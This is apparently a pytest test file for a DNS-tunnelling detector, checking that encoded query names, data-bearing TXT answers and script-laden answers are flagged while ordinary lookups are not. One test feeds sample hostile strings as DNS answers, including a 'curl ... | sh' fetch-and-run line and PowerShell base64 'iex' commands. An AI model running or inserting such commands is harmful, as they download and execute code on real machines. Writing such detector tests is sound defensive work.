"""`dns_tunnel`: data carried in the names of DNS questions."""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from typing import Any

import pytest

from detect.traffic import findings_of
from lynceus.detect.dns_tunnel import DnsTunnel

CLIENT, RESOLVER, OUTSIDE = "10.0.0.5", "10.0.0.53", "203.0.113.53"
HOUR = 3600.0


def data(number: int, size: int) -> str:
    """A label as a tunnel makes it: hexadecimal, new each time."""
    return hashlib.sha256(str(number).encode()).hexdigest()[:size]


def asked(
    names: Iterable[str],
    every_s: float = 1.0,
    asker: str = CLIENT,
    resolver: str = RESOLVER,
    **columns: Any,
) -> list[dict[str, Any]]:
    usual = {"qtype": "A", "rcode": "NOERROR", "resp_p": 53, "proto": "udp", **columns}
    return [
        {"orig_h": asker, "resp_h": resolver, "query": name, "at_s": n * every_s, **usual}
        for n, name in enumerate(names)
    ]


def below(domain: str, count: int, size: int = 30) -> list[str]:
    return [f"{data(n, size)}.{domain}" for n in range(count)]


def test_a_tunnel_is_found_with_its_asker_its_domain_and_what_it_can_carry() -> None:
    (finding,) = findings_of(DnsTunnel(), dns=asked(below("t.drop-here.net", 200), qtype="TXT"))
    assert (finding["orig_h"], finding["domain"]) == (CLIENT, "drop-here.net")
    assert (finding["orig_role"], finding["resp_role"]) == ("infected", "domain")
    assert (finding["severity"], finding["service"], finding["resp_p"]) == ("high", "dns", 53)
    assert finding["score"] == pytest.approx(200 / 300)
    assert finding["because"] == (
        "10.0.0.5 asked for 200 different names below drop-here.net, on average 32 bytes long "
        "(100 % of unusual type): room for about 4.0 KB of data."
    )
    evidence = finding["evidence"]
    assert (evidence["queries"], evidence["subdomains"]) == (200, 200)
    assert evidence["carried_bytes"] == 200 * 32 * 5 // 8
    assert 3.5 < evidence["entropy_bits"] <= 4.2, "hexadecimal has four bits a character"
    assert len(finding["flow_uids"]) == 100


def test_ordinary_question_types_do_not_hide_it() -> None:
    both = [
        question
        for qtype in ("A", "AAAA")
        for question in asked(below("drop-here.net", 60), qtype=qtype)
    ]
    (finding,) = findings_of(DnsTunnel(), dns=both)
    assert finding["evidence"]["subdomains"] == 60
    assert finding["severity"] == "medium", "little data so far"


def test_a_slow_tunnel_shows_in_the_day() -> None:
    (finding,) = findings_of(DnsTunnel(), dns=asked(below("drop-here.net", 120), HOUR / 10))
    assert finding["evidence"]["subdomains"] == 120
    assert finding["window_end_ns"] - finding["window_start_ns"] == 24 * HOUR * 1e9


def test_short_names_of_a_type_with_room_for_data_are_enough() -> None:
    assert findings_of(DnsTunnel(), dns=asked(below("drop-here.net", 80, size=6), qtype="NULL"))


def test_data_spread_over_many_domains_is_told_by_its_resolver() -> None:
    names = [f"{data(n, 40)}.front{n % 25}-cache.net" for n in range(75)]
    (finding,) = findings_of(DnsTunnel(), dns=asked(names, resolver=OUTSIDE, qtype="TXT"))
    assert (finding["orig_h"], finding["resp_h"], finding["domain"]) == (CLIENT, OUTSIDE, None)
    assert finding["evidence"]["domains"] == 25


def test_a_resolver_that_forwards_stands_behind_its_client() -> None:
    names = below("drop-here.net", 100)
    forwarded = asked(names, asker=RESOLVER, resolver=OUTSIDE, qtype="TXT")
    both = findings_of(DnsTunnel(), dns=asked(names, qtype="TXT") + forwarded)
    assert [finding["orig_h"] for finding in both] == [CLIENT]
    alone = findings_of(DnsTunnel(), dns=forwarded)
    assert [finding["orig_h"] for finding in alone] == [RESOLVER]


def test_known_services_that_put_hashes_into_names_are_low() -> None:
    (finding,) = findings_of(DnsTunnel(), dns=asked(below("x.sophosxl.net", 300), qtype="TXT"))
    assert finding["severity"] == "low"
    assert finding["orig_role"] == "unknown"
    assert finding["confidence"] <= 0.3
    assert finding["because"].endswith("The domain belongs to Sophos reputation.")


def test_data_that_comes_in_with_the_answers_is_told() -> None:
    rows = [
        {**row, "answers": [data(n, 64) + data(n + 9, 64)]}
        for n, row in enumerate(asked(["poll.drop-here.net"] * 60, qtype="TXT"))
    ]
    (finding,) = findings_of(DnsTunnel(), dns=rows)
    assert (finding["domain"], finding["severity"]) == ("drop-here.net", "medium")
    assert finding["because"] == (
        "10.0.0.5 got 60 different answers below drop-here.net of a type with room for data, on "
        "average 128 bytes long: 7.7 KB came in."
    )
    assert findings_of(DnsTunnel(), dns=rows[:49]) == []
    same = [{**row, "answers": ["v=spf1 include:mail.drop-here.net " * 4]} for row in rows]
    assert findings_of(DnsTunnel(), dns=same) == []


def test_a_program_in_a_few_full_answers_is_told() -> None:
    pieces = [
        {**row, "answers": [data(n, 64) + data(n + 30, 64) + data(n + 60, 64)]}
        for n, row in enumerate(asked([f"l.{n}.drop-here.net" for n in range(14)], qtype="TXT"))
    ]
    polls = [{**row, "answers": ["-"]} for row in asked(["c.drop-here.net"] * 90, qtype="TXT")]
    (finding,) = findings_of(DnsTunnel(), dns=pieces + polls)
    assert (finding["domain"], finding["severity"]) == ("drop-here.net", "medium")
    assert finding["evidence"]["full_answers"] == 14
    assert findings_of(DnsTunnel(), dns=pieces[:11] + polls) == []
    keys = [
        {**row, "answers": [f"v=DKIM1; k=rsa; p={data(n, 64)}"]} for n, row in enumerate(pieces)
    ]
    assert findings_of(DnsTunnel(), dns=keys) == [], "short ones"


@pytest.mark.parametrize(
    "script",
    [
        "@$s=[System.Convert]::FromBase64String($b);iex ($s)",
        "powershell -nop -w hidden -c x",
        "curl -s 203.0.113.4/i | sh",
    ],
)
def test_one_answer_with_a_script_is_told(script: str) -> None:
    rows = [{**asked(["drop-here.net"], qtype="TXT")[0], "answers": [script]}]
    (finding,) = findings_of(DnsTunnel(), dns=rows)
    assert (finding["orig_h"], finding["domain"]) == (CLIENT, "drop-here.net")
    assert finding["severity"] == "medium"
    assert finding["evidence"]["script_answers"] == 1


@pytest.mark.parametrize(
    "text",
    [
        "v=spf1 include:_spf.shell.net ~all",
        "google-site-verification=curl-iex-powershell",
        "MS=ms91736452; cmd",
    ],
)
def test_policies_and_proofs_are_no_scripts(text: str) -> None:
    rows = [{**asked(["drop-here.net"], qtype="TXT")[0], "answers": [text]}]
    assert findings_of(DnsTunnel(), dns=rows) == []


WORDS = ("mail", "shop", "static", "images", "login", "news", "cdn", "api", "video", "forum")
BENIGN = {
    "a person browsing": [f"{w}.site{n}.org" for n in range(40) for w in WORDS],
    "a content network with long names, but few": below("edge-cache.net", 20, size=40) * 10,
    "reverse lookups": [f"{n}.0.0.10.in-addr.arpa" for n in range(250)],
    "names of the own network": below("corp.internal", 200),
    "service and policy records": [f"_{data(n, 30)}._domainkey.firm.org" for n in range(200)],
    "one customer a name": [f"customer{n}.portal-of-all.org" for n in range(200)],
    "questions without a name": [None] * 100,
}


@pytest.mark.parametrize("names", BENIGN.values(), ids=BENIGN.keys())
def test_ordinary_questions_are_no_tunnel(names: list[str]) -> None:
    assert findings_of(DnsTunnel(), dns=asked(names)) == []


@pytest.mark.parametrize(("count", "found"), [(49, 0), (50, 1)])
def test_fifty_names_in_an_hour_are_needed(count: int, found: int) -> None:
    assert len(findings_of(DnsTunnel(), dns=asked(below("drop-here.net", count)))) == found


def test_no_date_is_no_obstacle() -> None:
    questions = asked(below("drop-here.net", 120), qtype="TXT")
    undated = [{k: v for k, v in row.items() if k != "at_s"} for row in questions]
    found = findings_of(DnsTunnel(), dns=undated)
    assert {finding["first_seen_ns"] for finding in found} == {None}
